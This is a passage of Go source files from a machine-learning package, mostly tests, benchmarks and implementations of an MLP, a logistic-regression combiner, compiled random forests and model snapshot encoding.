		NewRandomForest(7),
		NewScaled(NewMLP(7)),
	} {
		if err := c.Fit(Xtr, ytr); err != nil {
			t.Fatalf("%s: %v", c.Name(), err)
		}
		if acc := accuracy(c, Xte, yte); acc < 0.9 {
			t.Errorf("%s: XOR accuracy %.3f, want >= 0.9", c.Name(), acc)
		}
	}
}

func TestLinearClassifiersFailXOR(t *testing.T) {
	// Sanity check that XOR really is nonlinear: LDA must be near chance.
	Xtr, ytr := xorData(400, 3)
	Xte, yte := xorData(200, 4)
	lda := NewScaled(NewLDA())
	if err := lda.Fit(Xtr, ytr); err != nil {
		t.Fatal(err)
	}
	if acc := accuracy(lda, Xte, yte); acc > 0.7 {
		t.Errorf("LDA XOR accuracy %.3f — test data is not actually XOR-like", acc)
	}
}

func TestValidateRejectsBadData(t *testing.T) {
	good := [][]float64{{1}, {2}}
	cases := []struct {
		name string
		X    [][]float64
		y    []int
	}{
		{"empty", nil, nil},
		{"mismatch", good, []int{1}},
		{"ragged", [][]float64{{1}, {2, 3}}, []int{0, 1}},
		{"bad label", good, []int{0, 2}},
		{"one class", good, []int{1, 1}},
		{"zero dim", [][]float64{{}, {}}, []int{0, 1}},
	}
	for _, c := range cases {
		for _, clf := range allClassifiers(1) {
			if err := clf.Fit(c.X, c.y); err == nil {
				t.Errorf("%s: Fit accepted %s data", clf.Name(), c.name)
			}
		}
	}
}

func TestUnfittedSafe(t *testing.T) {
	for _, c := range allClassifiers(1) {
		if got := c.Predict([]float64{1, 2}); got != Negative {
			t.Errorf("%s: unfitted Predict = %d", c.Name(), got)
		}
	}
}

func TestDeterminism(t *testing.T) {
	X, y := gaussianBlobs(200, 3, 0.2, 5)
	probe := []float64{0.3, -0.2, 0.1}
	for _, mk := range []func() Classifier{
		func() Classifier { return NewScaled(NewSVM(9)) },
		func() Classifier { return NewRandomForest(9) },
		func() Classifier { return NewScaled(NewMLP(9)) },
		func() Classifier { return NewScaled(NewLDA()) },
		func() Classifier { return NewBernoulliNB() },
	} {
		a, b := mk(), mk()
		if err := a.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		if err := b.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		if sa, sb := a.Score(probe), b.Score(probe); sa != sb {
			t.Errorf("%s: scores differ across identical fits: %v vs %v", a.Name(), sa, sb)
		}
	}
}

func TestScoreMonotoneWithPredict(t *testing.T) {
	// Predict must equal thresholding Score at each classifier's natural
	// threshold.
	X, y := gaussianBlobs(300, 3, 0.1, 11)
	Xte, _ := gaussianBlobs(100, 3, 0.1, 12)
	thresholds := map[string]float64{"SVM": 0, "RF": 0.5, "MLP": 0.5, "LDA": 0, "BNB": 0}
	for _, c := range allClassifiers(13) {
		if err := c.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		thr := thresholds[c.Name()]
		for _, x := range Xte {
			want := Negative
			if c.Score(x) >= thr {
				want = Positive
			}
			if got := c.Predict(x); got != want {
				t.Errorf("%s: Predict=%d but Score=%v (thr %v)", c.Name(), got, c.Score(x), thr)
			}
		}
	}
}

func TestStandardScaler(t *testing.T) {
	X := [][]float64{{1, 10}, {3, 10}, {5, 10}}
	var s StandardScaler
	if err := s.Fit(X); err != nil {
		t.Fatal(err)
	}
	if s.Mean[0] != 3 || s.Mean[1] != 10 {
		t.Errorf("Mean = %v", s.Mean)
	}
	// Constant feature must not divide by zero.
	out := s.Transform([]float64{3, 10})
	if out[0] != 0 || out[1] != 0 {
		t.Errorf("Transform = %v", out)
	}
	all := s.TransformAll(X)
	mean0 := (all[0][0] + all[1][0] + all[2][0]) / 3
	if math.Abs(mean0) > 1e-12 {
		t.Errorf("scaled mean = %v", mean0)
	}
	if err := (&StandardScaler{}).Fit(nil); err == nil {
		t.Error("Fit(nil) accepted")
	}
}

func TestTreeDepthLimit(t *testing.T) {
	X, y := gaussianBlobs(200, 3, -0.5, 21)
	tree := &DecisionTree{MaxDepth: 2}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if d := tree.Depth(); d > 2 {
		t.Errorf("depth = %d, want <= 2", d)
	}
}

func TestTreePureLeafStopsEarly(t *testing.T) {
	X := [][]float64{{0}, {0.1}, {10}, {10.1}}
	y := []int{0, 0, 1, 1}
	tree := &DecisionTree{}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if tree.Depth() != 1 {
		t.Errorf("depth = %d, want 1 (single perfect split)", tree.Depth())
	}
	for i, x := range X {
		if tree.Predict(x) != y[i] {
			t.Errorf("Predict(%v) = %d", x, tree.Predict(x))
		}
	}
}

func TestSVMSupportVectorsSubset(t *testing.T) {
	X, y := gaussianBlobs(200, 2, 1.5, 31)
	svm := NewSVM(31)
	if err := svm.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if len(svm.vectors) == 0 || len(svm.vectors) == len(X) {
		t.Errorf("support vectors = %d of %d; separable data should use a strict subset",
			len(svm.vectors), len(X))
	}
}

func TestBernoulliNBThresholds(t *testing.T) {
	// Feature 0 informative, feature 1 constant.
	X := [][]float64{{0, 5}, {1, 5}, {10, 5}, {11, 5}}
	y := []int{0, 0, 1, 1}
	nb := NewBernoulliNB()
	if err := nb.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if nb.Predict([]float64{0.5, 5}) != 0 || nb.Predict([]float64{10.5, 5}) != 1 {
		t.Error("BNB misclassifies trivially separable data")
	}
}

func TestLDARecoversDirection(t *testing.T) {
	// Classes differ only along feature 0.
	rng := rand.New(rand.NewSource(41))
	var X [][]float64
	var y []int
	for i := 0; i < 200; i++ {
		c := i % 2
		X = append(X, []float64{float64(c)*4 - 2 + rng.NormFloat64(), rng.NormFloat64()})
		y = append(y, c)
	}
	lda := NewLDA()
	if err := lda.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if math.Abs(lda.w[0]) < math.Abs(lda.w[1]) {
		t.Errorf("w = %v; informative feature should dominate", lda.w)
	}
}

func TestMLPSmallConfig(t *testing.T) {
	X, y := gaussianBlobs(100, 2, 0.5, 51)
	mlp := &MLP{Hidden: 8, Epochs: 50, BatchSize: 16, LearningRate: 1e-2, Seed: 51}
	if err := mlp.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if acc := accuracy(mlp, X, y); acc < 0.95 {
		t.Errorf("training accuracy = %.3f", acc)
	}
	// Probabilities must lie in (0, 1).
	for _, x := range X[:10] {
		if p := mlp.Score(x); p <= 0 || p >= 1 {
			t.Errorf("Score = %v not in (0,1)", p)
		}
	}
}

func BenchmarkSVMFit(b *testing.B) {
	X, y := gaussianBlobs(400, 15, 0.2, 1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		svm := NewSVM(int64(i))
		if err := svm.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkForestFit(b *testing.B) {
	X, y := gaussianBlobs(400, 15, 0.2, 1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		rf := NewRandomForest(int64(i))
		rf.Trees = 20
		if err := rf.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMLPFit(b *testing.B) {
	X, y := gaussianBlobs(400, 15, 0.2, 1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		mlp := &MLP{Hidden: 32, Epochs: 20, Seed: int64(i)}
		if err := mlp.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}
