package ml

import (
	"math"
	"math/rand"
)

// MLP is a feed-forward neural network with one ReLU hidden layer and a
// sigmoid output, trained with Adam on mini-batches of the binary
// cross-entropy loss — the scikit-learn MLPClassifier configuration the
// paper's pipeline uses by default (100 hidden units, Adam, lr 1e-3).
type MLP struct {
	// Hidden is the hidden-layer width (default 100).
	Hidden int
	// Epochs is the number of full training passes (default 200).
	Epochs int
	// BatchSize is the mini-batch size (default 200, capped at n).
	BatchSize int
	// LearningRate is Adam's step size (default 1e-3).
	LearningRate float64
	// L2 is the weight penalty (scikit-learn's alpha, default 1e-4).
	L2 float64
	// Seed drives weight init and batch shuffling.
	Seed int64

	w1 [][]float64 // hidden x dim
	b1 []float64
	w2 []float64 // hidden
	b2 float64

	fitted bool
}

// NewMLP returns an MLP with scikit-learn-like defaults.
func NewMLP(seed int64) *MLP {
	return &MLP{Hidden: 100, Epochs: 200, BatchSize: 200, LearningRate: 1e-3, L2: 1e-4, Seed: seed}
}

// Name implements Classifier.
func (m *MLP) Name() string { return "MLP" }

// Fit trains the network.
func (m *MLP) Fit(X [][]float64, y []int) error {
	dim, err := validate(X, y)
	if err != nil {
		return err
	}
	if m.Hidden == 0 {
		m.Hidden = 100
	}
	if m.Epochs == 0 {
		m.Epochs = 200
	}
	if m.BatchSize == 0 {
		m.BatchSize = 200
	}
	if m.LearningRate == 0 {
		m.LearningRate = 1e-3
	}
	rng := rand.New(rand.NewSource(m.Seed))
	h := m.Hidden

	// He initialization for the ReLU layer, Glorot-ish for the output.
	m.w1 = make([][]float64, h)
	scale1 := math.Sqrt(2 / float64(dim))
	for i := range m.w1 {
		m.w1[i] = make([]float64, dim)
		for j := range m.w1[i] {
			m.w1[i][j] = rng.NormFloat64() * scale1
		}
	}
	m.b1 = make([]float64, h)
	m.w2 = make([]float64, h)
	scale2 := math.Sqrt(1 / float64(h))
	for i := range m.w2 {
		m.w2[i] = rng.NormFloat64() * scale2
	}
	m.b2 = 0

	n := len(X)
	batch := m.BatchSize
	if batch > n {
		batch = n
	}

	// Adam state.
	adam := newAdamState(h, dim)
	order := make([]int, n)
	for i := range order {
		order[i] = i
	}

	hid := make([]float64, h)   // hidden activations
	dHid := make([]float64, h)  // hidden grads
	gw1 := make([][]float64, h) // batch gradients
	for i := range gw1 {
		gw1[i] = make([]float64, dim)
	}
	gb1 := make([]float64, h)
	gw2 := make([]float64, h)
	var gb2 float64

	step := 0
	for epoch := 0; epoch < m.Epochs; epoch++ {
		rng.Shuffle(n, func(i, j int) { order[i], order[j] = order[j], order[i] })
		for start := 0; start < n; start += batch {
			end := start + batch
			if end > n {
				end = n
			}
			// Zero batch gradients.
			for i := range gw1 {
				for j := range gw1[i] {
					gw1[i][j] = 0
				}
				gb1[i] = 0
				gw2[i] = 0
			}
			gb2 = 0
			for _, idx := range order[start:end] {
				x := X[idx]
				target := float64(y[idx])
				// Forward.
				for i := 0; i < h; i++ {
					z := m.b1[i]
					w := m.w1[i]
					for j, xv := range x {
						z += w[j] * xv
					}
					if z < 0 {
						z = 0
					}
					hid[i] = z
				}
				z2 := m.b2
				for i := 0; i < h; i++ {
					z2 += m.w2[i] * hid[i]
				}
				p := sigmoid(z2)
				// Backward: dL/dz2 = p - target for BCE+sigmoid.
				dz2 := p - target
				gb2 += dz2
				for i := 0; i < h; i++ {
					gw2[i] += dz2 * hid[i]
					if hid[i] > 0 {
						dHid[i] = dz2 * m.w2[i]
					} else {
						dHid[i] = 0
					}
				}
				for i := 0; i < h; i++ {
					if dHid[i] == 0 {
						continue
					}
					g := gw1[i]
					d := dHid[i]
					for j, xv := range x {
						g[j] += d * xv
					}
					gb1[i] += d
				}
			}
			bs := float64(end - start)
			step++
			adam.update(m, gw1, gb1, gw2, gb2, bs, m.LearningRate, m.L2, step)
		}
	}
	m.fitted = true
	return nil
}

// Score returns the positive-class probability.
func (m *MLP) Score(x []float64) float64 {
	if !m.fitted {
		return 0
	}
	z2 := m.b2
	for i, w := range m.w1 {
		z := m.b1[i]
		for j, xv := range x {
			z += w[j] * xv
		}
		if z > 0 {
			z2 += m.w2[i] * z
		}
	}
	return sigmoid(z2)
}

// Predict implements Classifier.
func (m *MLP) Predict(x []float64) int {
	if m.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// adamState carries first/second moment estimates for every parameter.
type adamState struct {
	mw1, vw1 [][]float64
	mb1, vb1 []float64
	mw2, vw2 []float64
	mb2, vb2 float64
}

func newAdamState(h, dim int) *adamState {
	a := &adamState{
		mw1: make([][]float64, h), vw1: make([][]float64, h),
		mb1: make([]float64, h), vb1: make([]float64, h),
		mw2: make([]float64, h), vw2: make([]float64, h),
	}
	for i := 0; i < h; i++ {
		a.mw1[i] = make([]float64, dim)
		a.vw1[i] = make([]float64, dim)
	}
	return a
}

// update applies one Adam step with batch-averaged gradients plus L2.
func (a *adamState) update(m *MLP, gw1 [][]float64, gb1, gw2 []float64, gb2, batchSize, lr, l2 float64, step int) {
	const beta1, beta2, eps = 0.9, 0.999, 1e-8
	c1 := 1 - math.Pow(beta1, float64(step))
	c2 := 1 - math.Pow(beta2, float64(step))
	adj := func(param, grad float64, mm, vv *float64) float64 {
		g := grad/batchSize + l2*param
		*mm = beta1**mm + (1-beta1)*g
		*vv = beta2**vv + (1-beta2)*g*g
		return param - lr*(*mm/c1)/(math.Sqrt(*vv/c2)+eps)
	}
	for i := range m.w1 {
		for j := range m.w1[i] {
			m.w1[i][j] = adj(m.w1[i][j], gw1[i][j], &a.mw1[i][j], &a.vw1[i][j])
		}
		m.b1[i] = adj(m.b1[i], gb1[i], &a.mb1[i], &a.vb1[i])
		m.w2[i] = adj(m.w2[i], gw2[i], &a.mw2[i], &a.vw2[i])
	}
	m.b2 = adj(m.b2, gb2, &a.mb2, &a.vb2)
}
