package ml

// Logit is a plain logistic-regression classifier trained by full-batch
// gradient descent with L2 regularization. It exists as the stacking
// combiner: the meta-features it sees are per-channel forest
// probabilities — low-dimensional, well-scaled, near-linearly separable —
// exactly the regime where a small linear model beats another forest and
// stays interpretable (its weights *are* the channel weights). It is
// deterministic: no sampling, fixed iteration count, zero initialization.
type Logit struct {
	// LR is the gradient-descent step size (default 0.5; the meta-feature
	// scale is [0,1] so large steps are safe).
	LR float64
	// Iters is the fixed iteration count (default 500).
	Iters int
	// L2 is the ridge penalty on the weights, not the bias (default 1e-3).
	L2 float64

	w      []float64
	b      float64
	fitted bool
}

// NewLogit returns a logistic-regression classifier with combiner
// defaults.
func NewLogit() *Logit { return &Logit{LR: 0.5, Iters: 500, L2: 1e-3} }

// Name implements Classifier.
func (l *Logit) Name() string { return "LOGIT" }

// Fit trains by full-batch gradient descent on the logistic loss.
func (l *Logit) Fit(X [][]float64, y []int) error {
	d, err := validate(X, y)
	if err != nil {
		return err
	}
	if l.LR <= 0 {
		l.LR = 0.5
	}
	if l.Iters <= 0 {
		l.Iters = 500
	}
	l.w = make([]float64, d)
	l.b = 0
	n := float64(len(X))
	grad := make([]float64, d)
	for it := 0; it < l.Iters; it++ {
		for j := range grad {
			grad[j] = 0
		}
		gb := 0.0
		for i, x := range X {
			z := l.b
			for j, v := range x {
				z += l.w[j] * v
			}
			e := sigmoid(z) - float64(y[i])
			for j, v := range x {
				grad[j] += e * v
			}
			gb += e
		}
		for j := range l.w {
			l.w[j] -= l.LR * (grad[j]/n + l.L2*l.w[j])
		}
		l.b -= l.LR * gb / n
	}
	l.fitted = true
	return nil
}

// Score returns the positive-class probability.
func (l *Logit) Score(x []float64) float64 {
	if !l.fitted {
		return 0
	}
	z := l.b
	for j, v := range x {
		if j >= len(l.w) {
			break
		}
		z += l.w[j] * v
	}
	return sigmoid(z)
}

// Predict implements Classifier with the 0.5 probability threshold.
func (l *Logit) Predict(x []float64) int {
	if l.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// Weights returns the fitted coefficient vector and intercept (nil, 0
// before Fit). The slice is the model's own storage; callers must not
// mutate it.
func (l *Logit) Weights() ([]float64, float64) { return l.w, l.b }
