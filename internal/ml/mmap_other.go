//go:build !unix

package ml

import "os"

// mapFile falls back to reading the file into memory where mmap is
// unavailable; the refcounted Mapping interface is identical, only the
// sharing property is lost.
func mapFile(path string) (*Mapping, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return NewMapping(data, nil), nil
}
