package ml

import (
	"math/rand"
	"testing"
)

// synthetic two-cluster data: class 1 shifted up in every feature.
func batchTestData(n, d int, seed int64) ([][]float64, []int) {
	rng := rand.New(rand.NewSource(seed))
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		row := make([]float64, d)
		label := i % 2
		for j := range row {
			row[j] = rng.NormFloat64() + float64(label)*1.5
		}
		X[i] = row
		y[i] = label
	}
	return X, y
}

// Batch scoring must be bit-identical to per-row Predict/Score for every
// classifier shape the detector can load, including after a Save/Load
// round trip (which exercises the flat-array rebuild).
func TestPredictBatchMatchesSingle(t *testing.T) {
	X, y := batchTestData(240, 15, 7)
	probe, _ := batchTestData(100, 15, 99)

	tree := &DecisionTree{MaxDepth: 8, Seed: 3}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	rf := &RandomForest{Trees: 25, Seed: 11}
	if err := rf.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	scaled := &Scaled{Inner: &RandomForest{Trees: 10, Seed: 5}}
	if err := scaled.Fit(X, y); err != nil {
		t.Fatal(err)
	}

	clfs := []Classifier{tree, rf, scaled}
	for _, c := range []Classifier{tree, rf} {
		blob, err := Save(c)
		if err != nil {
			t.Fatal(err)
		}
		loaded, err := Load(blob)
		if err != nil {
			t.Fatal(err)
		}
		clfs = append(clfs, loaded)
	}

	for _, c := range clfs {
		labels, scores := PredictBatch(c, probe)
		for i, x := range probe {
			if want := c.Predict(x); labels[i] != want {
				t.Fatalf("%s: batch label[%d] = %d, single = %d", c.Name(), i, labels[i], want)
			}
			if want := c.Score(x); scores[i] != want {
				t.Fatalf("%s: batch score[%d] = %v, single = %v", c.Name(), i, scores[i], want)
			}
		}
	}
}

// A model saved from a flattened tree must serialize byte-identically to
// one whose flat arrays were never built (the format is the pointer tree).
func TestFlattenDoesNotChangeSnapshot(t *testing.T) {
	X, y := batchTestData(120, 15, 21)
	tree := &DecisionTree{MaxDepth: 6, Seed: 13}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	blob1, err := Save(tree)
	if err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(blob1)
	if err != nil {
		t.Fatal(err)
	}
	blob2, err := Save(loaded)
	if err != nil {
		t.Fatal(err)
	}
	if string(blob1) != string(blob2) {
		t.Fatalf("snapshot not stable across load/save round trip")
	}
}

func BenchmarkTreeScoreFlat(b *testing.B) {
	X, y := batchTestData(400, 15, 7)
	rf := &RandomForest{Trees: 100, Seed: 11}
	if err := rf.Fit(X, y); err != nil {
		b.Fatal(err)
	}
	probe, _ := batchTestData(64, 15, 99)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for _, x := range probe {
			rf.Score(x)
		}
	}
}

func BenchmarkPredictBatch(b *testing.B) {
	X, y := batchTestData(400, 15, 7)
	rf := &RandomForest{Trees: 100, Seed: 11}
	if err := rf.Fit(X, y); err != nil {
		b.Fatal(err)
	}
	probe, _ := batchTestData(64, 15, 99)

	b.Run("single", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for _, x := range probe {
				_ = rf.Predict(x)
				_ = rf.Score(x)
			}
		}
	})
	b.Run("batch", func(b *testing.B) {
		b.ReportAllocs()
		labels := make([]int, len(probe))
		scores := make([]float64, len(probe))
		for i := 0; i < b.N; i++ {
			predictBatchInto(rf, probe, labels, scores)
		}
	})
}
