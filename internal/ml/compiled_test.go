package ml

import (
	"math"
	"testing"
)

// refScoreBatch scores X through the uncompiled flattened-array walk,
// regardless of whether f has a compiled engine attached.
func refScoreBatch(f *RandomForest, X [][]float64) []float64 {
	out := make([]float64, len(X))
	for k := range out {
		for _, t := range f.ensemble {
			out[k] += t.Score(X[k])
		}
		out[k] /= float64(len(f.ensemble))
	}
	return out
}

func fitForest(t testing.TB, trees, maxDepth, n, d int, seed int64) *RandomForest {
	t.Helper()
	X, y := batchTestData(n, d, seed)
	f := &RandomForest{Trees: trees, MaxDepth: maxDepth, Seed: seed, Workers: 2}
	if err := f.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	return f
}

func TestCompiledForestMatchesReference(t *testing.T) {
	cases := []struct {
		name            string
		trees, maxDepth int
	}{
		{"deep", 30, 0},                // compact layout
		{"shallow", 30, 5},             // heap leaf-table layout
		{"boundary", 20, heapMaxDepth}, // deepest heap-eligible trees
		{"mixed", 40, heapMaxDepth + 3},
		{"single_tree", 1, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := fitForest(t, tc.trees, tc.maxDepth, 300, 12, 7)
			c, err := CompileForest(f)
			if err != nil {
				t.Fatalf("CompileForest: %v", err)
			}
			probe, _ := batchTestData(113, 12, 99)
			// Adversarial rows: exact thresholds, infinities, NaN. The
			// reference walk sends NaN right (x <= thr is false), and the
			// compiled walk must do the same.
			probe = append(probe,
				make([]float64, 12),
				filled(12, math.Inf(1)),
				filled(12, math.Inf(-1)),
				filled(12, math.NaN()),
			)
			want := refScoreBatch(f, probe)

			for k, x := range probe {
				if got := c.Score(x); got != want[k] {
					t.Fatalf("row %d: compiled Score = %v, reference = %v", k, got, want[k])
				}
				wantLabel := Negative
				if want[k] >= 0.5 {
					wantLabel = Positive
				}
				if got := c.Predict(x); got != wantLabel {
					t.Fatalf("row %d: compiled Predict = %d, want %d", k, got, wantLabel)
				}
			}
			got := make([]float64, len(probe))
			c.ScoreBatch(probe, got)
			for k := range got {
				if got[k] != want[k] {
					t.Fatalf("row %d: compiled ScoreBatch = %v, reference = %v", k, got[k], want[k])
				}
			}
			// The forest delegates to the engine after Compile; still identical.
			if err := f.Compile(); err != nil {
				t.Fatalf("Compile: %v", err)
			}
			del := make([]float64, len(probe))
			f.ScoreBatch(probe, del)
			for k := range del {
				if del[k] != want[k] {
					t.Fatalf("row %d: delegated ScoreBatch = %v, reference = %v", k, del[k], want[k])
				}
			}
			labels, scores := PredictBatch(c, probe)
			for k := range probe {
				if scores[k] != want[k] {
					t.Fatalf("row %d: PredictBatch score = %v, want %v", k, scores[k], want[k])
				}
				wantLabel := Negative
				if want[k] >= 0.5 {
					wantLabel = Positive
				}
				if labels[k] != wantLabel {
					t.Fatalf("row %d: PredictBatch label = %d, want %d", k, labels[k], wantLabel)
				}
			}
		})
	}
}

func filled(n int, v float64) []float64 {
	x := make([]float64, n)
	for i := range x {
		x[i] = v
	}
	return x
}

// TestCompiledQuantization: integer-valued features give midpoint
// thresholds like 2.5 that round-trip float32 exactly, so the compiler
// must pick the quantized layout; irrational-ish thresholds must not.
func TestCompiledQuantization(t *testing.T) {
	n, d := 200, 6
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		X[i] = make([]float64, d)
		for j := range X[i] {
			X[i][j] = float64((i*7 + j*13) % 9)
		}
		if (i*3)%5 < 2 {
			y[i] = 1
		}
	}
	f := &RandomForest{Trees: 10, Seed: 3}
	if err := f.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	c, err := CompileForest(f)
	if err != nil {
		t.Fatalf("CompileForest: %v", err)
	}
	if !c.Quantized() {
		t.Fatal("integer-feature forest should compile to the quantized layout")
	}
	probe, _ := batchTestData(64, d, 5)
	want := refScoreBatch(f, probe)
	got := make([]float64, len(probe))
	c.ScoreBatch(probe, got)
	for k := range got {
		if got[k] != want[k] {
			t.Fatalf("row %d: quantized ScoreBatch = %v, reference = %v", k, got[k], want[k])
		}
	}

	fr := fitForest(t, 10, 0, 200, 8, 11) // batchTestData produces full-precision floats
	cr, err := CompileForest(fr)
	if err != nil {
		t.Fatalf("CompileForest: %v", err)
	}
	if cr.Quantized() {
		t.Fatal("full-precision thresholds must not quantize")
	}
}

func TestCompileForestRejectsUnfitted(t *testing.T) {
	if _, err := CompileForest(&RandomForest{Trees: 3}); err == nil {
		t.Fatal("expected error compiling an unfitted forest")
	}
	if _, err := CompileForest(nil); err == nil {
		t.Fatal("expected error compiling a nil forest")
	}
}

// FuzzCompiledForestEquivalence drives arbitrary feature vectors —
// including non-finite values — through the compiled engine and the
// reference flattened walk and requires bit-identical probabilities and
// labels from Score, ScoreBatch and PredictBatch.
func FuzzCompiledForestEquivalence(f *testing.F) {
	f.Add([]byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08})
	f.Add([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}) // NaN pattern
	f.Add([]byte{0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xf0, 0x7f}) // +Inf
	f.Add(make([]byte, 64))

	const dim = 10
	deep := fitForest(f, 12, 0, 250, dim, 21)
	shallow := fitForest(f, 12, 6, 250, dim, 22)
	cDeep, err := CompileForest(deep)
	if err != nil {
		f.Fatalf("CompileForest(deep): %v", err)
	}
	cShallow, err := CompileForest(shallow)
	if err != nil {
		f.Fatalf("CompileForest(shallow): %v", err)
	}

	f.Fuzz(func(t *testing.T, raw []byte) {
		// Decode the fuzz payload into one or more feature rows.
		var rows [][]float64
		for len(raw) > 0 {
			x := make([]float64, dim)
			for i := 0; i < dim && len(raw) > 0; i++ {
				var bits uint64
				for b := 0; b < 8 && len(raw) > 0; b++ {
					bits = bits<<8 | uint64(raw[0])
					raw = raw[1:]
				}
				x[i] = math.Float64frombits(bits)
			}
			rows = append(rows, x)
			if len(rows) >= 16 {
				break
			}
		}
		if len(rows) == 0 {
			return
		}
		for _, pair := range []struct {
			ref *RandomForest
			c   *CompiledForest
		}{{deep, cDeep}, {shallow, cShallow}} {
			want := refScoreBatch(pair.ref, rows)
			got := make([]float64, len(rows))
			pair.c.ScoreBatch(rows, got)
			for k := range rows {
				if s := pair.c.Score(rows[k]); s != want[k] {
					t.Fatalf("Score mismatch row %d: compiled %v (bits %x), reference %v (bits %x)",
						k, s, math.Float64bits(s), want[k], math.Float64bits(want[k]))
				}
				if got[k] != want[k] {
					t.Fatalf("ScoreBatch mismatch row %d: compiled %v, reference %v", k, got[k], want[k])
				}
			}
			labels, scores := PredictBatch(pair.c, rows)
			for k := range rows {
				wantLabel := Negative
				if want[k] >= 0.5 {
					wantLabel = Positive
				}
				if labels[k] != wantLabel || scores[k] != want[k] {
					t.Fatalf("PredictBatch mismatch row %d: (%d, %v), want (%d, %v)",
						k, labels[k], scores[k], wantLabel, want[k])
				}
			}
		}
	})
}

// BenchmarkPredictCompiled mirrors BenchmarkPredictBatch (same forest
// shape, same 64-row probe) over the compiled engine, plus a "blocked"
// variant large enough to exercise the row × tree-block tiling.
func BenchmarkPredictCompiled(b *testing.B) {
	X, y := batchTestData(400, 15, 7)
	rf := &RandomForest{Trees: 100, Seed: 11}
	if err := rf.Fit(X, y); err != nil {
		b.Fatalf("Fit: %v", err)
	}
	c, err := CompileForest(rf)
	if err != nil {
		b.Fatalf("CompileForest: %v", err)
	}
	probe, _ := batchTestData(64, 15, 99)

	b.Run("single", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for _, x := range probe {
				_ = c.Predict(x)
				_ = c.Score(x)
			}
		}
	})
	b.Run("batch", func(b *testing.B) {
		b.ReportAllocs()
		labels := make([]int, len(probe))
		scores := make([]float64, len(probe))
		for i := 0; i < b.N; i++ {
			predictBatchInto(c, probe, labels, scores)
		}
	})
	big, _ := batchTestData(512, 15, 9)
	out := make([]float64, len(big))
	b.Run("blocked", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			c.ScoreBatch(big, out)
		}
	})
}
