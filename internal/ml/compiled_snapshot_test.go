package ml

import (
	"encoding/binary"
	"errors"
	"hash/crc32"
	"os"
	"path/filepath"
	"testing"
)

func encodeForest(t *testing.T, f *RandomForest) (*CompiledForest, []byte) {
	t.Helper()
	c, err := CompileForest(f)
	if err != nil {
		t.Fatalf("CompileForest: %v", err)
	}
	blob, err := EncodeCompiled(c)
	if err != nil {
		t.Fatalf("EncodeCompiled: %v", err)
	}
	return c, blob
}

func assertSameScores(t *testing.T, want, got *CompiledForest, probe [][]float64) {
	t.Helper()
	a := make([]float64, len(probe))
	b := make([]float64, len(probe))
	want.ScoreBatch(probe, a)
	got.ScoreBatch(probe, b)
	for k := range probe {
		if a[k] != b[k] {
			t.Fatalf("row %d: decoded forest scores %v, original %v", k, b[k], a[k])
		}
		if s := got.Score(probe[k]); s != a[k] {
			t.Fatalf("row %d: decoded Score %v, original %v", k, s, a[k])
		}
	}
}

func TestCompiledSnapshotRoundTrip(t *testing.T) {
	probe, _ := batchTestData(70, 12, 5)
	for _, mode := range []string{"copy", "alias", "misaligned"} {
		t.Run(mode, func(t *testing.T) {
			f := fitForest(t, 20, 0, 300, 12, 31)
			c, blob := encodeForest(t, f)
			var (
				got *CompiledForest
				err error
			)
			switch mode {
			case "copy":
				got, err = DecodeCompiled(blob, nil)
				if err != nil {
					t.Fatalf("DecodeCompiled: %v", err)
				}
				if got.Mapping() != nil {
					t.Fatal("copy decode must not reference a mapping")
				}
			case "alias":
				m := NewMapping(blob, nil)
				got, err = DecodeCompiled(m.Data(), m)
				if err != nil {
					t.Fatalf("DecodeCompiled: %v", err)
				}
				if got.Mapping() != m {
					t.Fatal("aligned mmap decode should alias the mapping zero-copy")
				}
			case "misaligned":
				// Shift the section to an odd base address: zero-copy is
				// impossible, the decoder must fall back to copying.
				buf := make([]byte, len(blob)+1)
				copy(buf[1:], blob)
				m := NewMapping(buf[1:], nil)
				got, err = DecodeCompiled(m.Data(), m)
				if err != nil {
					t.Fatalf("DecodeCompiled: %v", err)
				}
				if got.Mapping() != nil {
					t.Fatal("misaligned decode must copy, not alias")
				}
			}
			if got.Trees() != c.Trees() || got.Quantized() != c.Quantized() {
				t.Fatalf("decoded shape mismatch: %d/%v vs %d/%v",
					got.Trees(), got.Quantized(), c.Trees(), c.Quantized())
			}
			assertSameScores(t, c, got, probe)
		})
	}
}

func TestCompiledSnapshotRoundTripQuantized(t *testing.T) {
	n, d := 200, 6
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		X[i] = make([]float64, d)
		for j := range X[i] {
